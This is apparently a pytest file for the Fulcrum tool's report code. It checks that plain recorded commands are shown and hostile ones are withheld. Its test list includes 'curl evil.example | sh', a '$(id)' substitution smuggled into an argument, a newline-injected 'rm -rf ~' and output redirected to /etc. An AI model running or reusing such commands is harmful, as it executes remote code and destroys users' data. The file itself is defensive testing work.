"""Commands in files of results that somebody else may have written: which of them a report shows."""

import dataclasses

import pytest

from fulcrum.cli.plan_commands.compare_settings import SettingsOptions
from fulcrum.cli.run_commands.deployments import SiteOptions
from fulcrum.cli.shared_options.model_options import ModelOptions
from fulcrum.cli.shared_options.target_options import ComparedTargetOptions
from fulcrum.cli.shared_options.training_options import TrainingOptions
from fulcrum.words.recorded_commands import _FLAGS, _OPTIONS, recorded_command

HOSTILE = [
    "curl evil.example | sh",
    "fulcrum train plan.json -o run; curl evil.example | sh",
    "fulcrum train plan.json --data $(id) -o run",
    "fulcrum train plan.json --data digits -o run\nrm -rf ~",
    "fulcrum train plan.json -o /etc -o run",
    "fulcrum train plan.json --output=/etc -o run",
    "fulcrum train plan.json -o elsewhere",
    "fulcrum sign plan.json --key issuer.key -o run",
    "fulcrum train 'plan.json -o run",
    "fulcrum train plan.json --model evil:Net -o run",
    "fulcrum train plan.json --trained 'head.*' -o run",
    "fulcrum train plan.json --mlflow http://evil.example -o run",
    "fulcrum train plan.json --tensorboard /home/reader -o run",
    "fulcrum train plan.json --out run2 -o run",
    "fulcrum train plan.json --seeds -o run",
    "fulcrum train plan.json --data=digits -o run",
    "fulcrum train plan.json --data //evil.example/share/x.npz -o run",
    "fulcrum train plan.json --device evil:net -o run",
    "fulcrum train other.json --data digits -o run",
    "fulcrum compare mild --rounds 2 --epsilon 5 --allocation=evil:f --train -o run",
    "fulcrum compare mild --rounds 2 --epsilon 5 --allocation evil:f --train -o run",
    "fulcrum compare evil.toml --rounds 2 --epsilon 5 --train -o run",
    "fulcrum up flower plan.json --train evil -o run",
    "fulcrum up flower plan.json --option data=digits -o run",
    "fulcrum audit plan.json --run elsewhere -o run",
    "fulcrum",
    " ",
]


@pytest.mark.parametrize("command", HOSTILE)
def test_a_command_that_fulcrum_does_not_write_is_none_to_copy(command):
    told = "# made by a command that is not shown: it names code or an address, or is none that Fulcrum writes"
    assert recorded_command(command, into="run") == told


PLAIN = [
    "fulcrum train plan.json --data digits --learning-rate 0.2 --device cuda:1 --seeds 2 -o run",
    "fulcrum train plan.json --data 'my records/caf\u00e9.npz' --seeds 1 -o run",
    "fulcrum compare FEDERATION --rounds 2 --epsilon region=5,silo=8 --no-shrink --train --size-law equal --seeds 2 -o run",
    "fulcrum audit plan.json --run run --trials 1000 --silo 'Sankt Georg' --seed 3 -o run",
    "fulcrum simulate flower plan.json --patience 5.0 --data digits -o run",
    "fulcrum up nvflare plan.json --policy policy.toml -o run",
    "fulcrum follow nvflare KITS -o run",
]


@pytest.mark.parametrize("command", PLAIN)
def test_a_plain_command_that_fulcrum_writes_is_shown(command):
    assert recorded_command(command, into="run") == command


def test_every_option_that_a_recorded_command_may_have_is_shown_or_left_out_on_purpose():
    written = {
        "audit": (TrainingOptions,),
        "compare": (ComparedTargetOptions, SettingsOptions, TrainingOptions, ModelOptions),
        "simulate": (SiteOptions, TrainingOptions),
        "train": (TrainingOptions, ModelOptions),
        "up": (SiteOptions, TrainingOptions),
    }
    code = {"--model", "--trained", "--train", "--settings"}
    flags = {"--shrink", "--embedding", "--tuned"}
    for verb, groups in written.items():
        names = {f"--{field.name.replace('_', '-')}" for group in groups for field in dataclasses.fields(group)}
        assert names - code - flags <= _OPTIONS[verb]
        assert not _OPTIONS[verb] & (code | flags)
    assert list(_FLAGS) == ["compare"]
    assert flags <= _FLAGS["compare"]
